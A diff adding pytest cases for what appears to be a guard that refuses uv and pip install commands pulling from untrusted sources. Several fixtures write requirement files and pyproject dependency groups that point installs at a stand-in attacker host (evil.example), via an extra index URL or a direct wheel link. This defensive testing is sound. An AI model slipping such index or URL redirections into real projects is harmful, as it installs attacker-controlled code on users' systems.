@@ -148,6 +148,18 @@ def test_passed(argv: list[str]) -> None:
     check(argv, {"PATH": "/usr/bin:/bin"}, index_url=INDEX)
 
 
+@pytest.mark.parametrize("words", [["-r", "evil.txt"], ["-revil.txt"], ["-r=evil.txt"],
+                                   ["-qr", "evil.txt"], ["-c", "evil.txt", "foo"],
+                                   ["-b", "evil.txt", "foo"], ["--requirement", "evil.txt"],
+                                   ["--with-requirements", "evil.txt"]])
+def test_short_file_options_are_followed(tmp_path: Path, words: list[str]) -> None:
+    write_file(tmp_path / "evil.txt", "--extra-index-url http://evil.example/simple/\nfoo\n")
+    command = ["uvx", *words, "black"] if words[0] == "--with-requirements" else \
+        ["uv", "pip", "install", *words]
+    with pytest.raises(RefusedError, match=r"evil\.txt"):
+        check(command, {"PATH": "/usr/bin:/bin"}, index_url=INDEX, cwd=str(tmp_path))
+
+
 def test_an_unclassified_valued_option_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(guard_uv, "HARMLESS", guard_uv.HARMLESS - {"--python"})
     with pytest.raises(RefusedError, match="has not classified"):
@@ -169,9 +181,32 @@ def test_pip_interface_group_reads_the_file_it_names(tmp_path: Path, group: str)
             check(["uv", *command, "--group", group], {"PATH": "/usr/bin:/bin"},
                   index_url=INDEX, cwd=str(tmp_path))
     # In a project command the group is one of the project's own (`uv add --group dev`).
-    (tmp_path / "other").mkdir()
+    write_file(tmp_path / "other/pyproject.toml", '[project]\nname = "o"\nversion = "0"\n')
     check(["uv", "add", "--group", "ev", "--frozen", "bar"], {"PATH": "/usr/bin:/bin"},
           index_url=INDEX, cwd=str(tmp_path / "other"))
+
+
+@pytest.mark.parametrize("argv", [
+    ["uv", "sync", "--group", "ev"],
+    ["uv", "run", "--group", "ev", "python", "-c", "pass"],
+    ["uv", "export", "--only-group", "ev"],
+    ["uv", "lock"],
+])
+def test_project_commands_read_the_projects_direct_references(tmp_path: Path,
+                                                              argv: list[str]) -> None:
+    """A group `--group` selects (or any group, extra, dependency) of the project: uv
+    resolves its `name @ URL` like any requirement."""
+    write_file(tmp_path / "pyproject.toml", '[project]\nname = "demo"\nversion = "0"\n'
+               'dependencies = []\n[project.urls]\nHomepage = "https://example.org/demo"\n'
+               '[dependency-groups]\nev = ["foo @ https://evil.example/foo-9.9.9-py3-none-any.whl"]\n')
+    with pytest.raises(RefusedError, match=r"\[dependency-groups\]"):
+        check(argv, {"PATH": "/usr/bin:/bin"}, index_url=INDEX, cwd=str(tmp_path))
+    # [project.urls] is no download: a project naming its homepage is installed as usual.
+    write_file(tmp_path / "pyproject.toml", '[project]\nname = "demo"\nversion = "0"\n'
+               'dependencies = ["foo"]\n[project.urls]\nHomepage = "https://example.org/demo"\n')
+    check(argv, {"PATH": "/usr/bin:/bin"}, index_url=INDEX, cwd=str(tmp_path))
+    check(["pip", "install", "."], {"PATH": "/usr/bin:/bin"}, index_url=INDEX,
+          cwd=str(tmp_path))
 
 
 def _attack(sandbox: Sandbox, indexes: Indexes, venv: Path, command: str,
